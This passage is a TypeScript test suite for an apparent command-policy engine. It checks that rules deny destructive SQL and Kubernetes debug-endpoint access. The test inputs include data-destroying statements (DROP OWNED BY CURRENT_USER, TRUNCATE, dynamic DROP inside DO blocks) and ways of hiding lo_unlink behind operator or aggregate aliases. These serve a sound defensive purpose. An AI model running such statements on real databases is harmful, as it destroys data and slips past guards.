  const rule = (verb: string, path: string) => p.evaluate(cmd('kubectl', { protocol: 'kubernetes', attributes: { verb, path, non_resource: 'true' } })).rule_id;
  for (const path of ['/metrics', '//metrics', '/metrics/', '/debug/pprof/', '/logs/kube-apiserver.log']) assert.is(rule('get', path), 'no-debug', path);
  assert.is(rule('delete', '/metrics'), 'no-debug');
  assert.is(rule('get', '/version'), null);
  // An allow is never widened: only the spelling it names.
  assert.is(rule('get', '/readyz/'), 'ok-readyz');
  assert.is(rule('get', '/readyz'), null);
  assert.is(rule('post', '/readyz/'), null);
  // A resource request is not matched by paths, whatever its path.
  assert.is(p.evaluate(cmd('kubectl', { protocol: 'kubernetes', attributes: { verb: 'get', resource: 'metrics', path: '/metrics' } })).rule_id, null);
  assert.throws(() => policyOf(`policy:
  default: allow
  rules:
    - { id: mixed, action: deny, match: { kubernetes: { paths: [/metrics], resources: [pods] } } }
`), /expected paths alone/);
});

const policyOf = (yaml: string) => new CompiledPolicy(parseConfig(`identity: { dev_issuer: { enabled: true } }\n${yaml}`, 'inline.yaml').policy);

evaluate('tables match what a statement writes as well as what it reads; tables_read and tables_written pick one', () => {
  const p = policyOf(`policy:
  default: allow
  rules:
    - { id: users-untouchable, action: deny, match: { sql: { tables: ["*users*"] } } }
    - { id: audit-append-only, action: deny, match: { sql: { tables_written: [audit] } } }
    - { id: no-secret-reads, action: deny, match: { sql: { tables_read: [secrets] } } }
`);
  for (const sql of [
    'UPDATE users SET a = 1 WHERE id = 1',
    'INSERT INTO users VALUES (1)',
    'DELETE FROM users WHERE id = 1',
    'DROP TABLE users',
    'ALTER TABLE users ADD COLUMN x int',
    'COPY users FROM STDIN',
    'MERGE INTO users u USING src s ON u.id = s.id WHEN MATCHED THEN DELETE',
    'WITH d AS (DELETE FROM app.users WHERE id = 1 RETURNING 1) SELECT 1',
    'DELETE FROM t USING users',
  ]) {
    assert.is(p.evaluate(cmd(sql)).rule_id, 'users-untouchable', sql);
  }
  assert.is(p.evaluate(cmd('DELETE FROM audit WHERE id = 1')).rule_id, 'audit-append-only');
  assert.is(p.evaluate(cmd('SELECT * FROM audit')).decision, 'allow');
  assert.is(p.evaluate(cmd('INSERT INTO log SELECT * FROM secrets')).rule_id, 'no-secret-reads');
  // A write that returns or tests the rows it changes reads them; one that cannot does not.
  for (const sql of ['DELETE FROM secrets WHERE id = 1', 'UPDATE secrets SET a = a WHERE id = 1 RETURNING a', 'SELECT * FROM secrets FOR UPDATE', 'CREATE VIEW v AS SELECT * FROM secrets', "INSERT INTO secrets VALUES (1) ON CONFLICT (id) DO UPDATE SET id = 1 RETURNING *", 'CREATE INDEX ON secrets ((a::int))', 'ALTER TABLE secrets ADD CHECK (a > 0)']) {
    assert.is(p.evaluate(cmd(sql)).rule_id, 'no-secret-reads', sql);
  }
  for (const sql of ['INSERT INTO secrets VALUES (1) RETURNING id', 'TRUNCATE secrets', 'ALTER TABLE secrets OWNER TO x', 'DROP TABLE secrets']) {
    assert.is(p.evaluate(cmd(sql)).decision, 'allow', sql);
  }
  // An allow rule on reads is not widened to a write that reads its rows.
  const reads = policyOf(`policy:
  default: deny
  rules:
    - { id: read-reports, action: allow, match: { sql: { tables_read: [reports] } } }
`);
  assert.is(reads.evaluate(cmd('SELECT * FROM reports')).rule_id, 'read-reports');
  for (const sql of ['UPDATE reports SET a = 1 WHERE id = 1', 'SELECT * FROM reports FOR UPDATE', 'CREATE VIEW v AS SELECT * FROM reports']) {
    assert.is(reads.evaluate(cmd(sql)).decision, 'deny', sql);
  }
});

evaluate('a statement reaching tables it does not name meets every refusing table rule; an allow rule is not widened', () => {
  const p = policyOf(`policy:
  default: allow
  rules:
    - { id: people-read-only, action: deny, match: { sql: { tables_written: [people] } } }
    - { id: ledger-read-only, action: hold, match: { sql: { tables_written: [public.ledger] } } }
`);
  for (const sql of ['DROP OWNED BY CURRENT_USER', 'REASSIGN OWNED BY a TO b', 'GRANT UPDATE ON ALL TABLES IN SCHEMA app TO bob', 'ALTER SCHEMA app RENAME TO app2', 'DROP TYPE mood CASCADE', 'ALTER TABLE t DROP COLUMN c CASCADE', 'ALTER TABLE pp ATTACH PARTITION people FOR VALUES IN (1)']) {
    assert.is(p.evaluate(cmd(sql)).rule_id, 'people-read-only', sql);
  }
  // A rule naming public.ledger is met by what reaches schema public, not by other schemas.
  const q = policyOf(`policy:
  default: allow
  rules:
    - { id: ledger-read-only, action: deny, match: { sql: { tables_written: [public.ledger] } } }
    - { id: migrations, action: allow, match: { sql: { tables_written: [app.*] } } }
`);
  assert.is(q.evaluate(cmd('ALTER SCHEMA public RENAME TO p2')).rule_id, 'ledger-read-only');
  assert.is(q.evaluate(cmd('GRANT ALL ON ALL TABLES IN SCHEMA public TO bob')).rule_id, 'ledger-read-only');
  assert.is(q.evaluate(cmd('DROP OWNED BY bob')).rule_id, 'ledger-read-only');
  // An allow rule over a whole schema's tables covers what reaches that schema's tables alone.
  assert.is(q.evaluate(cmd('ALTER SCHEMA app RENAME TO app2')).rule_id, 'migrations');
  assert.is(q.evaluate(cmd('GRANT ALL ON ALL TABLES IN SCHEMA app TO bob')).rule_id, 'migrations');
  assert.is(q.evaluate(cmd('ALTER SCHEMA other RENAME TO o2')).rule_id, null);
  assert.is(q.evaluate(cmd('DROP TABLE app.t CASCADE')).rule_id, 'ledger-read-only');
  assert.is(q.evaluate(cmd('DROP TABLE app.t')).rule_id, 'migrations');
});

evaluate('a built-in bound under a new name (operator, aggregate, cast) is decided as a call of it', () => {
  const p = policyOf(`policy:
  default: allow
  rules:
    - { id: no-destroy, action: deny, match: { sql: { effects: [destroy] } } }
`);
  for (const sql of ['CREATE OPERATOR ### (rightarg = oid, function = lo_unlink)', 'CREATE OPERATOR ### (rightarg = oid, procedure = pg_catalog.lo_unlink)', 'CREATE AGGREGATE a(oid) (sfunc = lo_unlink, stype = int4)']) {
    assert.is(p.evaluate(cmd(sql)).rule_id, 'no-destroy', sql);
  }
  for (const sql of ['CREATE OPERATOR ### (rightarg = text, function = ts_stat)', 'CREATE CAST (text AS int) WITH FUNCTION ts_stat(text)', "SELECT ts_rewrite('a'::tsquery, current_setting('x'))"]) {
    assert.is(p.evaluate(cmd(sql)).rule_id, UNVERIFIABLE_RULE, sql);
  }
  assert.is(p.evaluate(cmd("SELECT ts_rewrite('a'::tsquery, 'DELETE FROM t RETURNING 1, 2')")).rule_id, 'no-destroy');
  assert.is(p.evaluate(cmd("SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)")).decision, 'allow');
  assert.is(p.evaluate(cmd('CREATE OPERATOR @+@ (leftarg = int4, rightarg = int4, function = int4pl)')).decision, 'allow');
});

evaluate('effect classes: a deny on destroy covers every spelling; an allow on read admits nothing else', () => {
  const p = policyOf(`policy:
  default: deny
  rules:
    - { id: no-destroy, action: deny, match: { sql: { effects: [destroy] } } }
    - { id: reads, action: allow, match: { sql: { effects: [read, session] } } }
    - { id: migrations, action: allow, match: { sql: { effects: [ddl, write, read, code] } } }
`);
  for (const sql of ['DROP OWNED BY CURRENT_USER', 'ALTER TABLE users DROP COLUMN email', "DO $$ BEGIN EXECUTE 'DROP TABLE v'; END $$", 'TRUNCATE t', 'DELETE FROM t', 'MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE', "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'TRUNCATE users'"]) {
    assert.is(p.evaluate(cmd(sql)).rule_id, 'no-destroy', sql);
  }
  assert.is(p.evaluate(cmd('SELECT * FROM t; SHOW work_mem')).rule_id, 'reads');
  assert.is(p.evaluate(cmd('WITH d AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT 1')).rule_id, 'migrations');
  assert.is(p.evaluate(cmd('GRANT ALL ON t TO bob')).rule_id, null);
});

evaluate('MERGE … THEN DELETE meets a DeleteStmt deny', () => {
  const p = policyOf(`policy:
  default: allow
  rules: [{ id: no-delete, action: deny, match: { sql: { statements: [DeleteStmt] } } }]
`);
  assert.is(p.evaluate(cmd('MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE')).rule_id, 'no-delete');
  assert.is(p.evaluate(cmd('MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1')).decision, 'allow');
});

evaluate('SQL known only at run time is refused under default allow unless an allow rule names its effect', () => {
  const dynamicDo = "DO $$ DECLARE t text := 'v'; BEGIN EXECUTE format('DROP TABLE %I', t); END $$";
  const open = policyOf(`policy:
  default: allow
  rules: [{ id: staging, action: allow, match: { targets: ["staging-*"] } }]
`);
  const refused = open.evaluate(cmd(dynamicDo));
  assert.is(refused.decision, 'deny');
  assert.is(refused.rule_id, UNVERIFIABLE_RULE);
  assert.match(refused.reason, /dynamic/);
  // An allow rule that does not name the effect does not match it either.
  assert.is(open.evaluate(cmd(dynamicDo, { target: 'staging-db' })).rule_id, UNVERIFIABLE_RULE);
  assert.is(open.evaluate(cmd("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'")).rule_id, UNVERIFIABLE_RULE);
  // A constant EXECUTE is read, not guarded.
  assert.is(open.evaluate(cmd("DO $$ BEGIN EXECUTE 'SELECT 1'; END $$")).decision, 'allow');
  const explicit = policyOf(`policy:
  default: allow
  rules:
    - { id: ops-dynamic, action: allow, match: { claims: { sub: "ops-*" }, sql: { effects: [code, read, dynamic] } } }
`);
  const ops = { identity: { ...SAMPLES.Command.identity, subject: 'ops-bot' } };
  assert.is(explicit.evaluate(cmd(dynamicDo, ops)).rule_id, 'ops-dynamic');
  assert.is(explicit.evaluate(cmd(dynamicDo)).rule_id, UNVERIFIABLE_RULE);
  // A deny still wins over the guard's own refusal: the rule that names the statement decides.
  const deny = policyOf(`policy:
  default: allow
  rules: [{ id: no-code, action: deny, match: { sql: { effects: [code] } } }]
`);
  assert.is(deny.evaluate(cmd(dynamicDo)).rule_id, 'no-code');
});

evaluate('a body that does not parse refuses the statement that carries it', () => {
  const d = policyOf('policy: { default: allow }').evaluate(cmd('DO $$ BEGIN DELET FROM users; END $$'));
  assert.is(d.decision, 'deny');
  assert.is(d.rule_id, UNPARSEABLE_RULE);
});

evaluate.run();
